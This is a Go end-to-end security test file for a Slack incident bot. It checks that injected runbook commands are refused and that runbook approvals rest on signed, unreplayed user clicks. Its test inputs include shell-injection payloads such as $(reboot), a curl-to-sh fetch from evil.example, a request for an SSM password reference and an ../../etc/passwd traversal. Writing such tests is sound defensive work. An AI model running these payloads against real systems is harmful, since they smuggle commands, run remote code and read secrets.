package e2e

import (
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-dev/tocsin/incident"
)

// TestSecurity_RunbookInjection: shell, SSM-reference and parameter
// injection through a signed /incident runbook command is refused with an
// ephemeral sentence; nothing reaches the SSM stand-in; each attempt that
// names a runbook is on the timeline. (runbooks' inputs_test.go and
// check_test.go cover Validate and the shell rule; bot's parse_test.go the
// parser.)
func TestSecurity_RunbookInjection(t *testing.T) {
	s := Start(t, securityOptions())
	ch := openIncident(t, s, "m-inj", "api-5xx", "API errors", "api")
	cases := []struct {
		text string
		sync bool // refused by the parser at once, before dispatch
	}{
		{"runbook restart-unit unit=$(reboot)", false},
		{`runbook restart-unit unit="nginx.service; reboot"`, false},
		{"runbook restart-unit unit=nginx.service&amp;&amp;reboot", false}, // && as Slack sends it
		{"runbook restart-unit unit=`reboot`", false},
		{"runbook restart-unit unit=nginx.service|sh", false},
		{"runbook restart-unit unit={{ssm:/prod/db-password}}", false},
		{"runbook restart-unit unit=<https://evil.example|nginx.service>", false},
		{"runbook restart-unit unit=nginx.service commands=reboot", false},
		{"runbook restart-unit unit=nginx.service\x00", false},
		{"runbook restart-ecs-service cluster=prod;reboot service=api", false},
		{"runbook restart-ecs-service cluster=prod service=$(curl${IFS}evil.example|sh)", false},
		{"runbook restart-ecs-service cluster=../../prod service=api", false},
		{"runbook AWS-RunShellScript commands=reboot", false},
		{"runbook ../../etc/passwd", true},
		{"runbook restart-unit $(reboot)", true},
	}
	async := 0
	for i, c := range cases {
		reply := "inj-" + string(rune('a'+i))
		code, body := s.SlashAnswer(secRequester, ch, c.text, reply)
		if code != http.StatusOK || !strings.Contains(body, `"response_type":"ephemeral"`) {
			t.Fatalf("%q: %d %s", c.text, code, body)
		}
		if c.sync {
			if strings.Contains(body, "Working on it") {
				t.Errorf("%q: accepted by the parser: %s", c.text, body)
			}
			continue
		}
		async++
		got := s.WaitReply(reply)
		if !strings.HasPrefix(got, "Not run: ") {
			t.Errorf("%q: reply %q, want a refusal", c.text, got)
		}
		for _, p := range s.Slack.ResponseURLPosts() {
			if p.ID == reply && p.ResponseType != "ephemeral" {
				t.Errorf("%q: the refusal was posted %s, want ephemeral", c.text, p.ResponseType)
			}
		}
	}
	refused := timeline(s, func(e incident.Event) bool {
		return e.Type == incident.EventRunbook && e.Data["step"] == "refused"
	})
	if len(refused) != async {
		t.Errorf("refused attempts on the timeline = %d, want %d", len(refused), async)
	}
	if n := ssmSends(s); n != 0 || len(s.AWS.SSM.Commands()) != 0 {
		t.Errorf("SSM received %d sends, want none", n)
	}
}

// TestSecurity_ApprovalRules: approval is decided from the signed user.id
// only. A forged click (bad signature) and a replay of an accepted click
// are refused at the door; the requester approving their own run and a
// bystander clicking Approve (whose payload's user name and message text
// claim to be the approver) are refused on the timeline; a bystander may
// not deny either. The approver's click runs the plan once. (runbooks'
// approval_test.go and dispatch's runbook_test.go cover the policy.)
func TestSecurity_ApprovalRules(t *testing.T) {
	s := Start(t, securityOptions())
	ch := openIncident(t, s, "m-appr", "api-5xx", "API errors", "api")
	if code, _ := s.SlashAnswer(secRequester, ch, "runbook restart-unit unit=nginx.service", "request"); code != 200 {
		t.Fatal("request refused")
	}
	if got := s.WaitReply("request"); !strings.HasPrefix(got, "Asked for approval") {
		t.Fatalf("request reply %q", got)
	}
	runID, blockID := approvalButton(s, ch)
	refusals := func() int {
		return len(timeline(s, func(e incident.Event) bool { return e.Data["refused"] == "approval" }))
	}
	approvals := func() int {
		return len(timeline(s, func(e incident.Event) bool { return e.Type == incident.EventRunbook && e.Data["step"] == "approved" }))
	}

	forged := claimedClick(s, secApprover, ch, "tocsin_approve", blockID, runID, "forged")
	if code, _, _ := signedPost(s, "/slack/interactions", forged, "guessed-secret", time.Now()); code != http.StatusUnauthorized {
		t.Errorf("forged click: status %d, want 401", code)
	}
	if code, _, _ := signedPost(s, "/slack/interactions", forged, "", time.Now()); code != http.StatusUnauthorized {
		t.Errorf("unsigned click: status %d, want 401", code)
	}
	for i, who := range []string{secRequester, secBystander} {
		reply := "refused-" + who
		code, _, _ := signedPost(s, "/slack/interactions", claimedClick(s, who, ch, "tocsin_approve", blockID, runID, reply), secSigning, time.Now())
		if code != 200 {
			t.Fatalf("%s click: status %d", who, code)
		}
		if got := s.WaitReply(reply); !strings.HasPrefix(got, "Your approval was not counted") {
			t.Errorf("%s: reply %q", who, got)
		}
		s.WaitFor("the refusal on the timeline", func() bool { return refusals() == i+1 })
	}
	code, _, _ := signedPost(s, "/slack/interactions", claimedClick(s, secBystander, ch, "tocsin_deny", blockID, runID, "deny"), secSigning, time.Now())
	if got := s.WaitReply("deny"); code != 200 || !strings.HasPrefix(got, "Only an approver or the requester") {
		t.Errorf("bystander deny: %d %q", code, got)
	}
	if n := approvals(); n != 0 || ssmSends(s) != 0 {
		t.Fatalf("before the approver clicked: %d approvals, %d SSM sends; want none", n, ssmSends(s))
	}

	good := claimedClick(s, secApprover, ch, "tocsin_approve", blockID, runID, "approve")
	code, _, h := signedPost(s, "/slack/interactions", good, secSigning, time.Now())
	if code != 200 {
		t.Fatalf("approver click: %d", code)
	}
	s.WaitFor("the command in SSM", func() bool { return ssmSends(s) == 1 })
	if code, _ := s.Do("POST", "/slack/interactions", h, good); code != http.StatusUnauthorized {
		t.Errorf("replayed approval: status %d, want 401", code)
	}
	time.Sleep(500 * time.Millisecond)
	cmds := s.AWS.SSM.Commands()
	if len(cmds) != 1 || ssmSends(s) != 1 || approvals() != 1 {
		t.Fatalf("after the approval and its replay: %d commands, %d sends, %d approvals; want 1 each", len(cmds), ssmSends(s), approvals())
	}
	if got := cmds[0].Parameters["commands"]; !slices.Equal(got, []string{"systemctl restart nginx.service"}) || cmds[0].Document != "AWS-RunShellScript" {
		t.Errorf("SSM got %s %q; want exactly the approved plan", cmds[0].Document, got)
	}
	ev := timeline(s, func(e incident.Event) bool { return e.Type == incident.EventRunbook && e.Data["step"] == "approved" })
	if ev[0].Actor != secApprover {
		t.Errorf("approval recorded for %q, want the signed user %s", ev[0].Actor, secApprover)
	}
}
